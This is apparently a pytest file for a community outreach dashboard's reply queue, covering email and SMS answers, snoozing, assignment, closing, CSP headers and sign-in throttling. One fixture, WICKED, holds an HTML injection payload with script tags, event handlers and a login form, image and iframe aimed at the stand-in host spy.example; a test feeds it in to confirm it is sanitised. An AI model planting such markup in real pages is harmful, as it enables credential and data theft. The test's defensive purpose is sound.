"""The reply queue and the conversation page: who waits, what they wrote, and answering it."""

import re
from dataclasses import dataclass

import pytest
from flask.testing import FlaskClient

from engine.store.conversations import Conversation
from engine.vocabulary.ids import MemberId
from engine.vocabulary.words import Channel, ConversationState
from inbound.sources.keeping import Envelope
from inbound.sources.postoffice import receive_email
from tests.web.conftest import House, signed_in

ASKS = "what's a buddy?"


@dataclass(frozen=True)
class Talk:
    """Ana, who answered our letter by email and has a phone too."""

    house: House
    ana: MemberId

    @property
    def page(self) -> str:
        return f"/conversation/{self.now().id}"

    def now(self) -> Conversation:
        found = self.house.town.conversation(self.ana)
        assert found is not None
        return found

    def answers(self, client: FlaskClient, words: str, **typed: str) -> str:
        """Sends an answer as the page offers it; the words of the page that follows."""
        shown = client.get(self.page)
        seen = re.search(r'name="seen_version" value="(\d+)"', shown.text)
        assert seen
        form = {"seen_version": seen.group(1), "channel": "email", "send": "1", "body": words, **typed}
        said = self.house.submits(client, shown, form, to=f"{self.page}/reply")
        self.house.town.settle()
        return client.get(said.location).text if said.status_code == 302 else said.text

    def does(self, client: FlaskClient, deed: str, **typed: str) -> None:
        assert self.house.submits(client, self.page, typed, to=f"{self.page}/{deed}").status_code == 302


@pytest.fixture
def talk(house: House) -> Talk:
    ana = house.town.joins("Ana", email="ana@riverbend.example", phone="+12125550134")
    house.town.enrolls(house.publishes_welcome(), ana)
    house.town.replies(ana, ASKS)
    return Talk(house, ana)


def test_who_waits_is_in_a_folder_with_their_words_and_what_they_answer(
    talk: Talk, organizer: FlaskClient
) -> None:
    everyone = organizer.get("/replies/everyone").text
    assert "Ana" in everyone
    assert "a buddy?" in everyone
    assert "The porch light · hello" in everyone
    for folder in ("waiting", "snoozed", "matching", "closed"):
        assert "a buddy?" not in organizer.get(f"/replies/{folder}").text


def test_a_folder_that_is_none_is_not_there(organizer: FlaskClient) -> None:
    assert organizer.get("/replies/blue").status_code == 404


def test_the_page_shows_the_reply_and_the_letter_it_answers(talk: Talk, organizer: FlaskClient) -> None:
    page = organizer.get(talk.page).text
    assert "a buddy?" in page
    assert "What is one thing on" in page
    assert "What they had just read" in page


def test_an_answer_goes_by_the_channel_they_used_and_is_threaded(talk: Talk, organizer: FlaskClient) -> None:
    assert "Sent" in talk.answers(organizer, "Somebody to walk with.")
    letter = talk.house.town.mailbox(talk.ana)[-1].message
    assert "Somebody to walk with." in letter.as_string()
    assert str(letter["In-Reply-To"]) in str(letter["References"])
    assert letter["Subject"].startswith("Re: ")
    assert talk.now().state is ConversationState.WAITING


def test_another_channel_can_be_chosen(talk: Talk, organizer: FlaskClient) -> None:
    talk.answers(organizer, "By text then.", channel="sms")
    talk.house.town.pass_time(hours=1)
    assert "By text then." in talk.house.town.phone(talk.ana)[-1].body


def test_an_empty_answer_is_sent_back(talk: Talk, organizer: FlaskClient) -> None:
    assert "no words in this answer" in talk.answers(organizer, "   ")
    assert len(talk.house.town.mailbox(talk.ana)) == 1


def test_what_the_engine_refuses_is_said_in_the_organizers_language(
    talk: Talk, organizer: FlaskClient
) -> None:
    talk.house.submits(
        organizer, "/me", {"name": "Rosa", "zone": "America/Chicago", "language": "es", "signature": ""}
    )
    assert "no tiene palabras" in talk.answers(organizer, "   ")
    assert "1600 caracteres" in talk.answers(organizer, "x" * 1601, channel="sms")


def test_what_another_changed_meanwhile_is_said_and_the_words_stay(
    talk: Talk, organizer: FlaskClient, admin: FlaskClient
) -> None:
    before = talk.now().version
    talk.answers(admin, "I was faster.")
    late = talk.answers(organizer, "Slow and careful words.", seen_version=str(before))
    assert "Slow and careful words." in late
    assert "changed this conversation" in late
    assert len(talk.house.town.mailbox(talk.ana)) == 2


def test_a_note_is_kept_and_never_sent(talk: Talk, organizer: FlaskClient) -> None:
    talk.does(organizer, "note", note="Her sister is Carol.")
    talk.house.town.pass_time(days=1)
    assert "Her sister is Carol." in organizer.get(talk.page).text
    assert all("Carol" not in mail.message.as_string() for mail in talk.house.town.mailbox(talk.ana))


def test_a_conversation_is_snoozed_and_comes_back_at_nine(talk: Talk, organizer: FlaskClient) -> None:
    talk.does(organizer, "snooze", until="tomorrow")
    assert talk.now().state is ConversationState.SNOOZED
    assert "a buddy?" in organizer.get("/replies/snoozed").text
    talk.house.town.pass_time(days=1)
    assert talk.now().state is ConversationState.OPEN


def test_it_is_handed_over_and_back_to_the_queue(talk: Talk, organizer: FlaskClient) -> None:
    talk.does(organizer, "assign", to=talk.house.admin_id)
    assert talk.now().assignee_id == talk.house.admin_id
    talk.does(organizer, "assign", to="")
    assert talk.now().assignee_id is None
    talk.does(organizer, "claim")
    assert talk.now().assignee_id == talk.house.organizer_id


def test_it_is_closed_and_opened_again(talk: Talk, organizer: FlaskClient) -> None:
    page = talk.page
    talk.does(organizer, "close", outcome="no_reply_needed")
    assert talk.house.town.conversation(talk.ana) is None
    assert "a buddy?" in organizer.get("/replies/closed").text
    talk.house.submits(organizer, page, {}, to=f"{page}/reopen")
    assert talk.now().state is ConversationState.OPEN


def test_whom_we_may_not_write_to_has_no_answer_box(talk: Talk, organizer: FlaskClient) -> None:
    talk.house.town.replies(talk.ana, "STOP", channel=Channel.SMS)
    talk.house.town.clicks_unsubscribe(talk.ana)
    page = organizer.get(talk.page).text
    assert "no address left" in page
    assert "Your answer to" not in page


def test_the_oldest_that_waits_is_one_button_away(talk: Talk, organizer: FlaskClient) -> None:
    talk.does(organizer, "assign", to="")
    said = talk.house.submits(organizer, "/", {}, to="/next")
    assert said.location.endswith(talk.page)
    assert talk.now().assignee_id == talk.house.organizer_id


WICKED = """<p onclick="steal()">Hello <b>there</b></p><script>steal()</script><img src="https://spy.example/x.gif">
<form action="https://spy.example"><input name="password"></form><a href="javascript:steal()">press</a>
<style>@import "https://spy.example/a.css"</style><iframe src="https://spy.example"></iframe>"""


def test_trust_T13_what_was_written_as_html_is_harmless(house: House, organizer: FlaskClient) -> None:
    ana = house.town.joins("Ana", email="ana@riverbend.example")
    house.town.enrolls(house.publishes_welcome(), ana)
    letter = house.town.mailbox(ana)[-1].message
    to = letter["Reply-To"].addresses[0].addr_spec
    mail = f"From: ana@riverbend.example\r\nTo: {to}\r\nMessage-ID: <w@x.example>\r\nSubject: Hi\r\n"
    mail += f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{WICKED}"
    receive_email(house.rt, mail.encode(), Envelope("ana@riverbend.example", (to,)))
    house.town.settle()
    page = organizer.get(Talk(house, ana).page).text
    assert "steal()" not in page
    (source,) = re.findall(r'src="(/conversation/\w+/as-sent/\w+)"', page)
    assert 'sandbox=""' in page
    shown = organizer.get(source)
    assert "<b>there</b>" in shown.text
    assert not re.search(r"script|onclick|spy\.example|javascript|<form|<input|<img|<iframe", shown.text)
    policy = shown.headers["Content-Security-Policy"]
    assert "sandbox" in policy
    assert "default-src 'none'" in policy


def test_every_page_of_the_dashboard_forbids_what_is_not_its_own(talk: Talk, organizer: FlaskClient) -> None:
    for path in ("/", "/replies/everyone", talk.page, "/people/", "/health/"):
        answer = organizer.get(path)
        assert "script-src 'self'" in answer.headers["Content-Security-Policy"], path
        assert not re.search(r"<script(?![^>]*src=)|<style|\son\w+=|style=", answer.text), path


def test_trust_T20_a_password_can_be_tried_only_so_often(house: House, visitor: FlaskClient) -> None:
    typed = {"email": house.organizer_email, "password": "not this one, surely"}
    tried = [house.submits(visitor, "/sign-in", typed).status_code for _ in range(11)]
    assert tried == [422] * 10 + [429]


def test_leaving_ends_this_browser_only(house: House, organizer: FlaskClient) -> None:
    other = signed_in(house, house.organizer_id)
    house.submits(organizer, "/", {}, to="/sign-out")
    assert organizer.get("/").status_code == 302
    assert other.get("/").status_code == 200
